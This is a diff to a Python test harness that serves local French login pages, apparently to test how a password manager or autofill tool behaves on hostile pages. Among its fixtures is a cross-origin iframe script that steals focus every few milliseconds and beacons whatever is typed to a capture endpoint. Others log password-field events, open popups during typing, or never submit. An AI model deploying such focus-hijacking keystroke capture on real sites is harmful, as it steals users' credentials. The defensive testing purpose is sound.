@@ -102,6 +102,131 @@ STUBBORN = """<!doctype html><title>Espace candidat</title>
 
 WELCOME = "<!doctype html><title>Bienvenue</title><p>Bienvenue</p>"
 
+# A login form next to a frame of another origin that keeps taking the focus back and sends
+# whatever is typed into it to its own origin (recorded as POSTs to /capture).
+GRAB = """<!doctype html><title>Connexion</title>
+<form method="post" action="/submit/grab">
+<label>Identifiant <input name="username" autocomplete="username"></label>
+<label>Mot de passe <input type="password" name="password" autocomplete="current-password"></label>
+<button type="submit">Se connecter</button></form>
+<iframe src="{other}/grabber" width="300" height="80"></iframe>"""
+
+GRABBER = """<!doctype html><title>Publicite</title>
+<label>Recherche <input id="trap" autocomplete="off"></label>
+<script>
+var trap = document.getElementById('trap');
+function send() {
+  var value = trap.value;
+  if (!navigator.sendBeacon('/capture', value))
+    fetch('/capture', {method: 'POST', body: value, keepalive: true});
+}
+['input', 'keydown', 'change'].forEach(function (t) { trap.addEventListener(t, send); });
+setInterval(function () { window.focus(); trap.focus(); }, 5);
+</script>"""
+
+# The same frame on the password step of a two-step login.
+GRABSTEP1 = """<!doctype html><title>Etape 1</title>
+<form method="post" action="/grabstep2">
+<label for="u">Identifiant</label><input id="u" name="user" type="email" autocomplete="username">
+<button>Continuer</button></form>"""
+
+GRABSTEP2 = """<!doctype html><title>Etape 2</title>
+<form method="post" action="/submit/grabstep">
+<input type="hidden" name="user" value="{user}">
+<p>Bonjour {user}</p>
+<label for="p">Mot de passe</label><input id="p" name="pass" type="password"
+ autocomplete="current-password">
+<button>Se connecter</button></form>
+<iframe src="{other}/grabber" width="300" height="80"></iframe>"""
+
+# Records every trusted (real input) click, mousedown, keydown and pointerdown on the page, with
+# the password field's length and type at that moment, as POSTs to /log/NAME.
+TRUSTED_LOG = """<script>
+(function () {
+  var pw = document.getElementById('pw');
+  document.getElementById('eye').addEventListener('click', function () {
+    pw.type = pw.type === 'password' ? 'text' : 'password';
+  });
+  ['click', 'mousedown', 'keydown', 'pointerdown'].forEach(function (t) {
+    document.addEventListener(t, function (e) {
+      if (e.isTrusted !== true) return;
+      var rec = {type: e.type, len: pw.value.length, ptype: pw.type};
+      navigator.sendBeacon('/log/%s', JSON.stringify(rec));
+    }, true);
+  });
+})();
+</script>"""
+
+# A big "show password" button over the top-left of the page, first button of the form.
+EYE_STYLE = """<style>
+html, body { margin: 0; width: 100%; height: 100%; }
+body { min-height: 100vh; }
+#eye { position: fixed; left: 0; top: 0; width: 200px; height: 200px; font-size: 120px;
+       margin: 0; padding: 0; }
+#fields { position: absolute; left: 0; top: 220px; padding: 8px; }
+</style>"""
+
+TOGGLE = """<!doctype html><title>Connexion</title>""" + EYE_STYLE + """
+<form method="post" action="/submit/toggle">
+<button type="button" id="eye" aria-label="Afficher le mot de passe">\U0001F441</button>
+<div id="fields">
+<label>Identifiant <input name="username" autocomplete="username"></label>
+<label>Mot de passe <input id="pw" type="password" name="password"
+ autocomplete="current-password"></label>
+<button type="submit">Se connecter</button></div></form>""" + TRUSTED_LOG % "toggle"
+
+# A failed login: the page posts the fields itself and stays, form and fields still in place.
+STAY = """<!doctype html><title>Connexion</title>""" + EYE_STYLE + """
+<form id="f" method="post" action="/submit/stay">
+<button type="button" id="eye" aria-label="Afficher le mot de passe">\U0001F441</button>
+<div id="fields">
+<p id="msg" role="alert"></p>
+<label>Identifiant <input id="user" name="username" autocomplete="username"></label>
+<label>Mot de passe <input id="pw" type="password" name="password"
+ autocomplete="current-password"></label>
+<button type="submit">Se connecter</button></div></form>
+<script>
+document.getElementById('f').addEventListener('submit', function (e) {
+  e.preventDefault();
+  var body = new URLSearchParams({username: document.getElementById('user').value,
+                                  password: document.getElementById('pw').value});
+  function refuse() {
+    document.getElementById('msg').textContent = 'Identifiant ou mot de passe incorrect';
+  }
+  fetch('/submit/stay', {method: 'POST',
+                         headers: {'Content-Type': 'application/x-www-form-urlencoded'},
+                         body: body}).then(refuse, refuse);
+});
+</script>""" + TRUSTED_LOG % "stay"
+
+# Opens a new window while the password is being typed.
+POPUP = """<!doctype html><title>Connexion</title>
+<form method="post" action="/submit/popup">
+<label>Identifiant <input name="username" autocomplete="username"></label>
+<label>Mot de passe <input id="pw" type="password" name="password"
+ autocomplete="current-password"></label>
+<button type="submit">Se connecter</button></form>
+<script>
+document.getElementById('pw').addEventListener('input', function () {
+  window.open('/plain', '_blank');
+});
+</script>"""
+
+# A submit button that does nothing and a form that refuses to submit: nothing ever leaves.
+DEADEND = """<!doctype html><title>Connexion</title>
+<form method="post" action="/submit/deadend" onsubmit="return false">
+<label>Identifiant <input name="username" autocomplete="username"></label>
+<label>Mot de passe <input type="password" name="password" autocomplete="current-password"></label>
+<button type="button" id="go">Se connecter</button></form>
+<script>
+document.getElementById('go').addEventListener('click', function () {});
+</script>"""
+
+
+# POSTs whose raw body is recorded as is, {"raw": body}: what a page sends on its own.
+def raw_path(path):
+    return path == "/capture" or path.startswith("/log/")
+
 
 class Site:
     """One origin: a server on its own port, recording submissions."""
@@ -131,7 +256,11 @@ class Site:
 
             def do_POST(self):
                 n = int(self.headers.get("Content-Length") or 0)
-                form = urllib.parse.parse_qs(self.rfile.read(n).decode(), keep_blank_values=True)
+                body = self.rfile.read(n)
+                if raw_path(self.path.split("?")[0]):
+                    site.post(self, {"raw": body.decode("utf-8", "replace")})
+                    return
+                form = urllib.parse.parse_qs(body.decode(), keep_blank_values=True)
                 site.post(self, {k: v[0] for k, v in form.items()})
 
         self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
@@ -143,7 +272,10 @@ class Site:
         pages = {"/plain": PLAIN, "/scripted": SCRIPTED, "/twostep": TWOSTEP1,
                  "/framework": FRAMEWORK, "/iframe": IFRAME, "/inner": INNER,
                  "/twoforms": TWOFORMS, "/foreign": FOREIGN.format(other=self.other),
-                 "/outside": OUTSIDE, "/stubborn": STUBBORN}
+                 "/outside": OUTSIDE, "/stubborn": STUBBORN,
+                 "/grab": GRAB.format(other=self.other), "/grabber": GRABBER,
+                 "/grabstep": GRABSTEP1, "/toggle": TOGGLE, "/stay": STAY, "/popup": POPUP,
+                 "/deadend": DEADEND}
         path = h.path.split("?")[0]
         if path == "/redirect":
             h.send_page("", 302, [("Location", self.other + "/plain")])
@@ -160,16 +292,20 @@ class Site:
             h.send_page("not found", 404)
 
     def post(self, h, form):
-        if h.path == "/twostep2":
+        if h.path in ("/twostep2", "/grabstep2"):
             user = form.get("user", "").replace("&", "&amp;").replace('"', "&quot;")
-            h.send_page(TWOSTEP2.format(user=user.replace("<", "&lt;")))
+            step2 = TWOSTEP2 if h.path == "/twostep2" else GRABSTEP2
+            h.send_page(step2.format(user=user.replace("<", "&lt;"), other=self.other))
             return
         with self.lock:
             self.submissions.append((h.path, form))
+        if raw_path(h.path.split("?")[0]):
+            h.send_page("", 204)
+            return
         h.send_page(WELCOME)
 
     def taken(self, path):
-        """The forms posted to path so far."""
+        """The forms posted to path so far ({"raw": body} for /capture and /log/NAME)."""
         with self.lock:
             return [f for p, f in self.submissions if p == path]
 
